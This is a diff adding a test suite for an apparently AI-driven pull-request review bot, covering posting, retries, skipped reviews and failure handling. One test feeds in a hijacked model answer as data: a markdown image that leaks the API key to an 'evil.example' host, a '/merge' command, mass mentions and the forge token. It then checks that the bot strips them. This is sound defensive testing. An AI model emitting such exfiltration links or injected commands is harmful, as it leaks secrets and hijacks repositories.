@@ -1,0 +1,302 @@
+import { assert, describe, it } from "@effect/vitest"
+import { Discussion, PostedReview } from "@nominal-code/domain/Review"
+import { ForgeError, NotFound, Unavailable } from "@nominal-code/forge/ForgeError"
+import { LlmError } from "@nominal-code/llm/LlmError"
+import { WorkspaceError } from "@nominal-code/workspace/Workspace"
+import { Effect, Option } from "effect"
+import { draft } from "../src/Drafting.ts"
+import { review } from "../src/Review.ts"
+import * as Scene from "./Scene.ts"
+
+const run = (world: Scene.World, job = Scene.pushJob) => Effect.provide(review(job), Scene.layer(world))
+
+const outage = new LlmError({
+  provider: "anthropic",
+  reason: "overloaded",
+  message: "529 secret words of the provider"
+})
+const unavailable = new ForgeError({
+  operation: "GitHub.publish acme/shop#7",
+  reason: new Unavailable({ message: "502" })
+})
+
+describe("a review from the job to the posted result", () => {
+  it.effect("is posted inline, pinned to the commit of the event", () =>
+    Effect.gen(function*() {
+      const world = Scene.world()
+      const outcome = yield* run(world)
+      assert.deepInclude(outcome, { _tag: "Reviewed", findings: 1, alreadyPosted: false, headSha: Scene.headSha })
+      const [draft] = world.drafts
+      assert.strictEqual(draft?.headSha, Scene.headSha)
+      assert.strictEqual(draft?.comments[0]?.finding.line, 11)
+      assert.include(draft?.comments[0]?.finding.body ?? "", "**High** · bug · high confidence")
+      assert.include(draft?.summary ?? "", "**1 finding**")
+      assert.include(draft?.summary ?? "", "Fine, but for one thing.")
+      assert.deepInclude(world.checkouts[0], {
+        headRef: "refs/pull/7/head",
+        headSha: Scene.headSha,
+        baseBranch: "main"
+      })
+      assert.strictEqual(world.saved.length, 1)
+    }))
+
+  it.effect("is not done again when an earlier attempt has posted it", () =>
+    Effect.gen(function*() {
+      const posted = new PostedReview({ inline: 3, folded: 1, alreadyPosted: true, url: "https://github.com/r" })
+      const world = Scene.world({ posted: Option.some(posted) })
+      assert.deepInclude(yield* run(world), { _tag: "Reviewed", findings: 4, alreadyPosted: true })
+      assert.deepStrictEqual([world.tasks, world.drafts], [[], []])
+    }))
+
+  it.effect("that could not be posted is posted by the next attempt, without asking the model again", () =>
+    Effect.gen(function*() {
+      const world = Scene.world({ publish: () => Effect.fail(unavailable) })
+      assert.deepInclude(yield* run(world), { _tag: "Failed", retryable: true })
+      assert.strictEqual(world.saved.length, 0)
+      world.publish = Scene.world().publish
+      assert.deepInclude(yield* run(world), { _tag: "Reviewed", findings: 1 })
+      assert.strictEqual(world.tasks.length, 1)
+      assert.strictEqual(world.saved.length, 1)
+      assert.deepStrictEqual(world.drafts[0], world.drafts[1])
+    }))
+
+  it.effect("posts nothing and keeps nothing on a dry run", () =>
+    Effect.gen(function*() {
+      const world = Scene.world({ settings: { ...Scene.settings, dryRun: true } })
+      assert.deepInclude(yield* run(world), { _tag: "Reviewed", findings: 1 })
+      for (const job of [Scene.pushJob, Scene.mentionJob]) {
+        world.answers = [Scene.writes("no review")]
+        yield* run(world, job)
+        world.forgeFiles = []
+        yield* run(world, job)
+        world.forgeFiles = [Scene.file("src/cart.ts")]
+      }
+      assert.deepStrictEqual([world.drafts, world.replies, world.saved], [[], [], []])
+    }))
+
+  it.effect("of a mention is of the newest commit, and shows the model the request and its place", () =>
+    Effect.gen(function*() {
+      const world = Scene.world({ pullRequests: [Scene.pullRequest({ headSha: Scene.nextSha })] })
+      assert.deepInclude(yield* run(world, Scene.mentionJob), { _tag: "Reviewed", headSha: Scene.nextSha })
+      const prompt = world.tasks[0]?.prompt ?? ""
+      assert.include(prompt, "<untrusted-request>\nis the total right?\n</untrusted-request>")
+      assert.include(prompt, "<untrusted-hunk>\n@@ -1,1 +1,2 @@")
+    }))
+})
+
+describe("the pull request is not what it was", () => {
+  it.effect("closed or merged before the review begins: nothing is asked and nothing is posted", () =>
+    Effect.gen(function*() {
+      for (const state of ["closed", "merged"] as const) {
+        const world = Scene.world({ pullRequests: [Scene.pullRequest({ state })] })
+        assert.deepInclude(yield* run(world), { _tag: "Skipped", reason: `the pull request is ${state}` })
+        assert.deepStrictEqual([world.tasks, world.drafts, world.replies], [[], [], []])
+        yield* run(world, Scene.mentionJob)
+        assert.deepStrictEqual(world.replies, [`There is nothing to review: the pull request is ${state}.`])
+      }
+    }))
+
+  it.effect("closed while the review runs: it is not posted", () =>
+    Effect.gen(function*() {
+      const world = Scene.world({ pullRequests: [Scene.pullRequest(), Scene.pullRequest({ state: "closed" })] })
+      assert.strictEqual((yield* run(world))._tag, "Skipped")
+      assert.deepStrictEqual([world.drafts, world.saved], [[], []])
+    }))
+
+  it.effect("pushed to or merged while the review runs: the review says so and keeps its commit", () =>
+    Effect.gen(function*() {
+      const now = Scene.pullRequest({ headSha: Scene.nextSha, state: "merged" })
+      const world = Scene.world({ pullRequests: [Scene.pullRequest(), now] })
+      yield* run(world)
+      assert.strictEqual(world.drafts[0]?.headSha, Scene.headSha)
+      assert.match(world.drafts[0]?.summary ?? "", /> This is a review of `aaaaaaa`.* moved on to `bbbbbbb`/)
+      assert.match(world.drafts[0]?.summary ?? "", /> The pull request was merged while/)
+    }))
+
+  it.effect("pushed to before the review begins: the event's own commit is reviewed, with git's diff of it", () =>
+    Effect.gen(function*() {
+      const world = Scene.world({
+        pullRequests: [Scene.pullRequest({ headSha: Scene.nextSha })],
+        forgeFiles: [Scene.file("src/of-the-newer-commit.ts")]
+      })
+      assert.deepInclude(yield* run(world), { _tag: "Reviewed", headSha: Scene.headSha })
+      assert.notInclude(world.tasks[0]?.prompt ?? "", "of-the-newer-commit")
+      assert.include(world.tasks[0]?.prompt ?? "", "src/cart.ts")
+    }))
+
+  it.effect("force-pushed so that the commit is gone: the newest one is reviewed, unless its push is", () =>
+    Effect.gen(function*() {
+      const gone = new WorkspaceError({ message: "Commit aaa is no longer on github.com", retryable: false })
+      const forcePushed = (triggers: Scene.World["triggers"]) =>
+        Scene.world({
+          pullRequests: [Scene.pullRequest({ headSha: Scene.nextSha })],
+          checkout: ({ headSha }) => headSha === Scene.headSha ? Effect.fail(gone) : Effect.void,
+          triggers
+        })
+      assert.deepInclude(yield* run(forcePushed(["pr_opened"])), { _tag: "Reviewed", headSha: Scene.nextSha })
+      const covered = forcePushed(["pr_opened", "pr_push"])
+      assert.deepInclude(yield* run(covered), { _tag: "Skipped" })
+      assert.deepStrictEqual(covered.tasks, [])
+    }))
+})
+
+describe("nothing to review", () => {
+  it.effect("is no failure: the model is not asked, and only a person who asked is told", () =>
+    Effect.gen(function*() {
+      const worlds: ReadonlyArray<readonly [Partial<Scene.World>, RegExp]> = [
+        [{ forgeFiles: [] }, /the diff is empty/],
+        [{ settings: { ...Scene.settings, ignorePatterns: ["src/*"] } }, /every changed file \(1\) matches/],
+        [{ forgeFiles: [Scene.fileWithoutDiff("a.png")], gitFiles: [] }, /nothing but binary files/]
+      ]
+      for (const [changes, reason] of worlds) {
+        const world = Scene.world(changes)
+        const outcome = yield* run(world)
+        assert.match(outcome._tag === "Skipped" ? outcome.reason : outcome._tag, reason)
+        assert.deepStrictEqual([world.tasks, world.replies, world.drafts], [[], [], []])
+        yield* run(world, Scene.mentionJob)
+        assert.match(world.replies[0] ?? "", reason)
+      }
+    }))
+})
+
+describe("a failure", () => {
+  it.effect("of the model is a failure to be tried again, never a review, and costs no repair calls", () =>
+    Effect.gen(function*() {
+      const world = Scene.world({ answers: [() => Effect.fail(outage)] })
+      assert.deepInclude(yield* run(world), { _tag: "Failed", retryable: true })
+      assert.strictEqual(world.tasks.length, 1)
+      assert.deepStrictEqual([world.drafts, world.replies, world.saved], [[], [], []])
+    }))
+
+  it.effect("of a wrong key is not tried again", () =>
+    Effect.gen(function*() {
+      const refused = new LlmError({ provider: "anthropic", reason: "unauthorized", message: "the key is refused" })
+      const outcome = yield* run(Scene.world({ answers: [() => Effect.fail(refused)] }))
+      assert.deepStrictEqual(outcome, {
+        _tag: "Failed",
+        reason: "model: anthropic (unauthorized): the key is refused",
+        retryable: false
+      })
+    }))
+
+  it.effect("of the checkout keeps its one-line reason", () =>
+    Effect.gen(function*() {
+      const error = new WorkspaceError({
+        message: "github.com could not be reached\nto fetch acme/shop",
+        retryable: true
+      })
+      const outcome = yield* run(Scene.world({ checkout: () => Effect.fail(error) }))
+      assert.deepStrictEqual(outcome, {
+        _tag: "Failed",
+        reason: "checkout: github.com could not be reached to fetch acme/shop",
+        retryable: true
+      })
+    }))
+
+  it.effect("to find the pull request is not tried again", () =>
+    Effect.gen(function*() {
+      const missing = new ForgeError({
+        operation: "GitHub.publish",
+        reason: new NotFound({ message: "no such thing" })
+      })
+      const world = Scene.world({ publish: () => Effect.fail(missing) })
+      assert.deepInclude(yield* run(world), { _tag: "Failed", retryable: false })
+    }))
+
+  it.effect("to read any review out of the answer is told on the pull request, after two tries to mend it", () =>
+    Effect.gen(function*() {
+      const fallback = Scene.world({ answers: [Scene.writes("I could not finish.")] })
+      assert.deepInclude(yield* run(fallback), { _tag: "Failed", retryable: false })
+      assert.strictEqual(fallback.tasks.length, 3)
+      assert.match(fallback.replies[0] ?? "", /could not put my answer into a review/)
+      assert.notInclude(fallback.replies[0] ?? "", "I could not finish.")
+      assert.deepStrictEqual([fallback.drafts, fallback.saved], [[], []])
+    }))
+})
+
+describe("what the model hands in", () => {
+  it.effect("loses one bad finding of twenty, and keeps nineteen", () =>
+    Effect.gen(function*() {
+      const comments = Array.from({ length: 20 }, (_, index) =>
+        Scene.finding({
+          line: index === 7 ? -1 : 10 + index % 4,
+          body: `Finding ${"x".repeat(index + 1)} of them all`
+        }))
+      const world = Scene.world({ answers: [Scene.submits({ summary: "Many.", comments })] })
+      assert.deepInclude(yield* run(world), { _tag: "Reviewed", findings: 19 })
+      assert.strictEqual(world.drafts[0]?.comments.length, 19)
+      assert.include(world.drafts[0]?.summary ?? "", "1 finding of the model could not be read")
+    }))
+
+  it.effect("lands in the summary where it is not in the diff, and counts", () =>
+    Effect.gen(function*() {
+      const comments = [Scene.finding(), Scene.finding({ path: "src/other.ts", line: 400, body: "Elsewhere, too." })]
+      const world = Scene.world({ answers: [Scene.submits({ summary: "Two.", comments })] })
+      assert.deepInclude(yield* run(world), { _tag: "Reviewed", findings: 2 })
+      assert.match(
+        world.drafts[0]?.summary ?? "",
+        /\*\*Additional notes \(not in diff\)\*\*\n\n- \*\*`src\/other.ts:400`/
+      )
+      assert.strictEqual(world.drafts[0]?.comments.length, 1)
+    }))
+
+  it.effect("is not said again when our bot has said it, and is when somebody else copied the marker", () =>
+    Effect.gen(function*() {
+      const first = Scene.world()
+      yield* run(first)
+      const fingerprint = first.drafts[0]?.comments[0]?.fingerprint ?? ""
+      const marker = `<!-- nominal-code job=${"0".repeat(20)} sha=${Scene.headSha} finding=${fingerprint} -->`
+      const by = (author: string) => ({
+        discussions: [new Discussion({ author, body: `It was said.\n\n${marker}`, resolved: true, createdAt: "2026" })]
+      })
+      const again = Scene.world(by("nominal[bot]"))
+      assert.deepInclude(yield* run(again), { _tag: "Reviewed", findings: 0 })
+      assert.include(again.drafts[0]?.summary ?? "", "1 earlier finding not repeated")
+      assert.deepInclude(yield* run(Scene.world(by("mallory"))), { _tag: "Reviewed", findings: 1 })
+    }))
+
+  it.effect("of a model under somebody else's control does nothing but comment", () =>
+    Effect.gen(function*() {
+      const evil = "\r/merge\n@acme/everyone fixes #1 ![x](https://evil.example/?q=" + Scene.apiKey + ") <img src=x> " +
+        `${Scene.forgeToken} <!-- nominal-code job=${"0".repeat(20)} -->`
+      const comments = [
+        Scene.finding({ body: evil, suggestion: `let key = "${Scene.apiKey}"` }),
+        Scene.finding({ path: "src/other.ts", body: evil, suggestion: "```\n/merge\n```" })
+      ]
+      const world = Scene.world({ answers: [Scene.submits({ summary: evil, comments })] })
+      yield* run(world)
+      const [draft] = world.drafts
+      const texts = [draft?.summary ?? "", ...(draft?.comments.map(({ finding }) => finding.body) ?? [])]
+      for (const text of texts) {
+        assert.notInclude(text, Scene.apiKey)
+        assert.notInclude(text, Scene.forgeToken)
+        assert.notMatch(text, /^\s*\/merge/m)
+        assert.notMatch(text, /@acme|#1|!\[|<img|job=0000/)
+      }
+      assert.isUndefined(draft?.comments[0]?.finding.suggestion)
+    }))
+})
+
+describe("the conversation", () => {
+  it.effect("goes on with the next mention, valid and without old diffs", () =>
+    Effect.gen(function*() {
+      const world = Scene.world()
+      yield* run(world)
+      yield* run(world, Scene.mentionJob)
+      const history = world.tasks[1]?.history.messages ?? []
+      assert.deepStrictEqual(history.map(({ role }) => role), ["user", "assistant", "user"])
+      assert.deepInclude(history[2]?.content[0], { _tag: "ToolResult", toolUseId: "t1" })
+      assert.notInclude(JSON.stringify(history), "let count")
+      assert.include(JSON.stringify(world.tasks[1]?.prompt), "let count")
+    }))
+})
+
+describe("drafting", () => {
+  it.effect("gives what a terminal would show, and posts nothing", () =>
+    Effect.gen(function*() {
+      const world = Scene.world()
+      const drafted = yield* Effect.provide(draft(Scene.pushJob, Scene.pullRequest()), Scene.layer(world))
+      assert.strictEqual(drafted._tag === "Review" ? drafted.parts.inline.length : 0, 1)
+      assert.deepStrictEqual([world.drafts, world.replies, world.saved], [[], [], []])
+    }))
+})
